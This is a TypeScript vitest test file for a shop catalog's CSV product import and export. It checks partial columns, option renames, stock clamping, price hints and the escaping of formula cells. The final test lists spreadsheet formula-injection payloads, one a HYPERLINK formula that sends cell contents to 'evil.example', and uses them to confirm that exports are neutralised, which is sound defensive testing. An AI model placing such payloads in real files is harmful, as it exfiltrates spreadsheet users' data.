import { parse } from 'csv-parse';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { startCatalog, type TestCatalog } from '../catalog.fixture.js';
import { readPrice } from './cells.js';
import { exportOf, graphOf, importInto } from './import.fixture.js';

let t: TestCatalog;
beforeAll(async () => {
  t = await startCatalog();
});
afterAll(() => t.close());

const run = (csv: string) => importInto(t, csv);
const stockOf = async (sku: string) =>
  (
    await t.ask(
      'query ($r: [_Any!]!) { _entities(representations: $r) { ... on ProductVariant { stock { onHand } } } }',
      {
        r: [{ __typename: 'ProductVariant', sku }],
      },
    )
  )._entities[0];

test('a file may lack columns: what it does not tell stays', async () => {
  await run(
    'Handle,Title,Vendor,Option1 Name,Option1 Value,Variant SKU,Variant Price,Variant Inventory Qty\npart,Part,Acme,Size,S,part-s,10,3\n',
  );
  const { result, errors } = await run(
    'Handle;Variant SKU;Variant Compare At Price\npart;part-s;12.50\nnew;new-s;1\n',
  );
  expect(result).toMatchObject({ updated: 1, failed: 1 });
  expect(errors).toEqual([
    { line: 3, message: 'Title is missing, and the shop has no such product' },
  ]);
  expect(
    (await run('Handle,Variant SKU,Variant Inventory Qty\npart,part-s,5\npart,part-m,5\n')).errors,
  ).toEqual([{ line: 3, message: 'Variant Price is missing, and the shop has no such variant' }]);
  const { product } = await t.ask(
    '{ product(sku: "part") { name isActive attributes { name value } variants { nodes { sku price { minor } compareAtPrice { minor } selectedOptions { name value } } } } }',
  );
  expect(product).toMatchObject({
    name: 'Part',
    isActive: true,
    attributes: [{ name: 'Vendor', value: 'Acme' }],
    variants: {
      nodes: [
        {
          sku: 'part-s',
          price: { minor: 1000 },
          compareAtPrice: { minor: 1250 },
          selectedOptions: [{ name: 'Size', value: 'S' }],
        },
      ],
    },
  });
  expect((await stockOf('part-s')).stock.onHand).toBe(5);
});

test('an option that was renamed in the file renames the variant and leaves its stock alone', async () => {
  const file = (small: string, name = 'Size') =>
    `Handle,Title,Option1 Name,Option1 Value,Variant Price,Variant Inventory Qty\nrenamed,Renamed,${name},${small},10,4\nrenamed,,,Large,10,2\n`;
  const variants = async () =>
    (
      await t.ask(
        '{ product(sku: "renamed") { variants { nodes { sku name selectedOptions { name value } } } } }',
      )
    ).product.variants.nodes;
  await run(file('Smal'));
  expect((await run(file('Small'))).result).toMatchObject({ updated: 1, failed: 0 });
  expect((await run(file('Small'))).result).toMatchObject({ unchanged: 1, failed: 0 });
  expect((await run(file('Small', 'Fit'))).result).toMatchObject({ updated: 1, failed: 0 });
  expect(await variants()).toMatchObject([
    { sku: 'renamed-smal', name: 'Small', selectedOptions: [{ name: 'Fit', value: 'Small' }] },
    { sku: 'renamed-large', name: 'Large', selectedOptions: [{ name: 'Fit', value: 'Large' }] },
  ]);
  expect((await stockOf('renamed-smal')).stock.onHand).toBe(4);
});

test('less than nothing in stock is nothing, a former price below the price is left out, unreadable letters are refused', async () => {
  const { result, warnings, errors } = await run(
    'Handle,Title,Variant Price,Variant Inventory Qty,Variant Compare At Price\nless,Less,10,-3,9\nodd,Gr\uFFFD\uFFFDe,10,1,\n',
  );
  expect(result).toMatchObject({ created: 1, failed: 1 });
  expect(warnings).toEqual([
    { line: 2, message: 'Variant Compare At Price is below the price and was left out' },
    { line: 2, message: 'Variant Inventory Qty -3 became 0' },
  ]);
  expect(errors).toEqual([
    { line: 3, message: 'has characters that could not be read: save the file as UTF-8' },
  ]);
});

test('the hint of a wrong price fits the currency', () => {
  expect(() => readPrice('Variant Price', '12.50', 'JPY')).toThrow('write digits alone, e.g. 1250');
  expect(() => readPrice('Variant Price', '12,50', 'EUR')).toThrow(
    'write digits and a point, e.g. 12.50',
  );
});

test('no cell of an export is a formula, and an import gives the texts back', async () => {
  const formulas = [
    '=HYPERLINK("https://evil.example?"&A1,"open")',
    '+1 + cmd',
    '-2+3',
    '@SUM(A1)',
    "'=1",
    "''+x",
    '\uFF1D1',
  ];
  const number = ['-12.5', '+49', "'tis", 'a=b'];
  for (const [index, name] of [...formulas, ...number].entries()) {
    await t.createProduct({
      sku: `formula-${index}`,
      name,
      description: name,
      attributes: [
        { name: 'Vendor', value: name },
        { name: 'Tag', value: name.replaceAll(',', '') },
      ],
      variants: [
        {
          sku: `formula-${index}-v`,
          price: { minor: 1, currency: 'EUR' },
          options: [{ name: 'Cut', value: name }],
          barcode: name,
        },
      ],
    });
  }
  await importInto(t, 'Handle,Title,=COL(1),Variant Price\nkept,Kept,=kept(),1\n');
  const file = await exportOf(t);
  const cells = (await csvCells(file)).flat();
  expect(
    cells.filter((cell) => /^[=+\-@\t\r\n\uFF1D]/.test(cell) && !/^[+-]?[\d.]+$/.test(cell)),
  ).toEqual([]);
  expect(cells).toEqual(
    expect.arrayContaining([`'${formulas[0]}`, "''=1", '-12.5', "'tis", "'=COL(1)", "'=kept()"]),
  );
  const empty = await startCatalog();
  expect((await importInto(empty, file)).errors).toEqual([]);
  expect(await graphOf(empty)).toEqual(await graphOf(t));
  expect(await exportOf(empty)).toBe(file);
  await empty.close();
});

/** Cells as another program reads them. */
function csvCells(text: string): Promise<string[][]> {
  return new Promise((resolve, reject) =>
    parse(text, (error: Error | undefined, records: string[][]) =>
      error ? reject(error) : resolve(records),
    ),
  );
}
